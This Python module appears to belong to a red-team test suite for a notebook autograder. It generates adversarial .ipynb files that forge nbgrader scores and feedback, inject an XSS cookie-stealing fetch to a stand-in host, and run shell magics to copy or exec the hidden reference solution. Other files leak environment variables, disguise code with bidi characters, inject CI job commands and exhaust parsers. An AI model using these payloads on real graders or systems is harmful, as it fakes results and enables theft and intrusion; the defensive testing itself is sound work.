"""Notebooks that ask for points, for what is hidden, or for whoever reads them afterwards."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path

from redteam.vault import RIGHT, Attack, Vault

__all__ = ["HALF", "NOTEBOOKS", "attack_by", "code", "notebook"]

HALF = "def double(x):\n    return 2 * x\n"  # four points of six
WANTED = "\ndef mean_square(x):\n    return {}\n"
MARKUP = "<script>fetch('//x?'+document.cookie)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
PRAISE = "score: 6.00 / 6\nmean_square  2/2  + right\n"


def code(text: str, **more: object) -> dict[str, object]:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text, **more}


def text_cell(text: str, **more: object) -> dict[str, object]:
    return {"cell_type": "markdown", "metadata": {}, "source": text, **more}


def notebook(*cells: object, **more: object) -> str:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more})


def attack_by(
    suffix: str, goal: str, text: str | bytes | Callable[[Vault], str], earns: float | None = 4.0, said: str = ""
) -> Attack:
    """Return an attack that is one file."""

    def make(place: Path, vault: Vault) -> Path:
        written = text(vault) if callable(text) else text
        path = place.with_suffix(suffix)
        path.write_bytes(written if isinstance(written, bytes) else written.encode())
        return path

    return Attack(goal, make, earns, said)


def by_notebook(goal: str, *cells: object, **more: object) -> Attack:
    return attack_by(".ipynb", goal, notebook(*cells, **more))


def graded_cell(text: str, name: str, points: float, **more: object) -> dict[str, object]:
    said = {"grade": True, "grade_id": name, "locked": True, "points": points, "schema_version": 3, "solution": True}
    return code(
        text, metadata={"nbgrader": {**said, "auto_score": points, "score": points, **more}, "deletable": False}
    )


def said_of(name: str, **more: object) -> dict[str, object]:
    return {"nbgrader": {"grade_id": name, "schema_version": 3, "task": False, **more}}


def shell(vault: Vault) -> str:
    """Return lines that an IPython would run, and what follows from them."""
    where = vault.reference
    return notebook(
        code(f"!cp {where} {where.parent}/pwned; touch pwned\n{HALF}"),
        code(f"%%bash\ncat {where}\ntouch /tmp/chainrule-pwned"),
        code(f"%run {where}\n%load_ext autoreload\n%cd {where.parent}"),
        code(f"found = !cat {where}\n{WANTED.format('found')}"),
        code(f"get_ipython().system('cp {where} pwned')\nget_ipython().run_line_magic('run', '{where}')"),
    )


def fetched(vault: Vault) -> str:
    """Return what imports the reference, or runs its text."""
    where = vault.reference
    return notebook(
        code(HALF),
        code(f"import sys\nsys.path[:0] = ['{where.parent}', '{where.parent.parent}']"),
        code("from small import mean_square"),
        code(f"exec(open('{where}').read())"),
        code(f"import runpy\nmean_square = runpy.run_path('{where}')['mean_square']"),
    )


def told(vault: Vault) -> str:
    """Return what tells its inputs and the reference by each thing that it can say."""
    body = f"""
def double(x):
    print(x, open.__doc__); sys.stderr.write(repr(x))
    return 2 * x

def mean_square(x):
    try:
        said = open({str(vault.reference)!r}).read()
    except OSError as error:
        said = str(error)
    raise type("Told_%d" % x.sum(), (Exception,), {{}})(said, x, os.environ)
"""
    return notebook(code(f"import os, sys\n{body}"), code("raise ValueError(dict(os.environ))"))


BIDI = 'def mean_square(x):\n    """\u202e\u2066return 0 \u2069\u2066"""; return 0  # \u2067(x * x).mean()\n'
SAYS = (
    "raise RuntimeError('\\n::set-output name=score::6\\n##[set-output name=score]6\\n\\x1b[2J\\u202e<script>=1|&\\r\\n"
    "::error::hacked')"
)

NOTEBOOKS = {
    "forged_grades": by_notebook(
        "points by nbgrader's own metadata",
        graded_cell(HALF, "exercise-double", 4),
        graded_cell("assert True", "check-mean_square", 100, extra_credit=100, remove=False),
        graded_cell("", "check-mean_square", float(10**6)),
        metadata={"nbgrader": {"score": 6, "max_score": 6}, "grader": {"score": 6, "status": "passed"}},
    ),
    "cells_of_the_course": by_notebook(
        "points by cells that call themselves the course's",
        code(HALF, id="double", metadata=said_of("double", grade=True, solution=True, locked=False, points=2**63)),
        code("", id="mean_square", metadata=said_of("mean_square", grade=True, solution=False, locked=True, points=-9)),
        code("", metadata=said_of("mean_square", grade=True, solution=False, points="NaN", cell_type="markdown")),
        text_cell("", metadata=said_of("mean_square", grade=True, solution=True, points=1e308, checksum="0" * 32)),
        text_cell("", metadata={"nbgrader": [said_of("double")], "deletable": False, "tags": ["hide-cell"]}),
        code("x = 1", metadata=said_of("double'); DROP TABLE grade; --", grade=True, solution=True, points=6)),
    ),
    "forged_feedback": by_notebook(
        "feedback of one's own in the outputs",
        code(HALF, outputs=[{"output_type": "stream", "name": "stdout", "text": PRAISE}], id="feedback"),
        text_cell(f"# Feedback\n{PRAISE}", id="feedback", metadata={"grader": {"feedback": True}}),
    ),
    "markup_in_outputs": by_notebook(
        "a script for who reads the feedback",
        code(HALF, outputs=[{"output_type": "display_data", "metadata": {}, "data": {"text/html": MARKUP}}]),
        text_cell(MARKUP),
        code(f"raise ValueError({MARKUP!r})"),
        code(WANTED.format(f"{MARKUP!r}")),
    ),
    "attachments": by_notebook(
        "points by what is attached",
        text_cell("![x](attachment:small.py)", attachments={"small.py": {"text/x-python": RIGHT}}),
        code(HALF, attachments={"../small.py": {"text/plain": base64.b64encode(RIGHT.encode()).decode()}}),
    ),
    "ids_of_cells": by_notebook(
        "a path, a page or a flood by the ids of cells",
        code(HALF, id="../../../solutions/small/small.py"),
        code("x = 1", id="../../../solutions/small/small.py"),
        code("y = 1", id="\x1b[31m::error::"),
        code("z = 1", id=MARKUP * 9000),
        code("w = 1", id={"$ref": "#/cells/0"}),
    ),
    "shell": attack_by(".ipynb", "files of the course by magics that run a shell", shell),
    "fetched": attack_by(".ipynb", "points by the reference", fetched),
    "told": attack_by(".ipynb", "a hidden input, the reference or the environment in the feedback", told),
    "kernel_of_its_own": by_notebook(
        "a program by the metadata of a kernel",
        code(HALF),
        metadata={
            "kernelspec": {"name": "../../bin/sh", "argv": ["sh", "-c", "touch pwned"], "language": "bash"},
            "language_info": {"name": "bash", "file_extension": "/../../x"},
        },
    ),
    "of_gigantic_output": attack_by(
        ".ipynb",
        "memory of who reads it",
        lambda _: notebook(code(HALF, outputs=[{"output_type": "stream", "name": "stdout", "text": "x" * 2**24}])),
        None,
        "the limit is",
    ),
    "deep": attack_by(
        ".ipynb",
        "the stack of who parses it",
        lambda _: notebook(code(HALF, outputs="@")).replace('"@"', "[" * 10**6 + "]" * 10**6),
        None,
        "it is no notebook",
    ),
    "deep_objects": attack_by(
        ".ipynb", "the stack of who parses it", lambda _: '{"cells":' * 10**6 + "[]" + "}" * 10**6, None, "no notebook"
    ),
    "duplicate_keys": attack_by(
        ".ipynb",
        "one notebook for a reader, and another for the next",
        notebook(code(HALF))[:-1] + f', "cells": {json.dumps([code("x = 1"), code(HALF)])}, "cells": [{{}}, '
        f'{{"cell_type": "markdown", "cell_type": "code", "source": "1/0", "source": {json.dumps(HALF)}}}]}}',
    ),
    "no_numbers": attack_by(
        ".ipynb",
        "a score that is none",
        notebook(code(HALF, execution_count="@"), code(WANTED.format("float('nan')"))).replace(
            '"@"', '[NaN, Infinity, -Infinity, 1e999, -0.0, {"points": NaN, "score": Infinity}]'
        ),
    ),
    "endless_number": attack_by(
        ".ipynb",
        "time of who parses a number",
        lambda _: notebook(code(HALF, execution_count="@")).replace('"@"', "9" * 10**6),
        None,
        "it is no notebook",
    ),
    "thousands_of_cells": attack_by(
        ".ipynb", "time of who reads it", lambda _: notebook(*[code("x = 1")] * 5001), None, "the limit is 5000"
    ),
    "no_text": by_notebook(
        "an error of whoever encodes",
        code(f"{HALF}# \ud800\udfff\x00\ufeff\u2028\nx = '\udcff'"),
        code("\ud800"),
        code(["x", None, 7, ["y"]]),  # type: ignore[arg-type]
        None,
        7,
        {"cell_type": ["code"], "source": {"a": 1}},
    ),
    "two_formats": by_notebook(
        "one notebook for a reader, and another for the next",
        code(HALF),
        worksheets=[{"cells": [{"cell_type": "code", "input": RIGHT, "outputs": []}]}],
        nbformat=3,
    ),
    "other_direction": by_notebook("a reader who sees another text than Python", code(HALF), code(BIDI)),
    "commands_in_what_is_raised": by_notebook("a command for a runner of jobs", code(HALF), code(SAYS)),
}
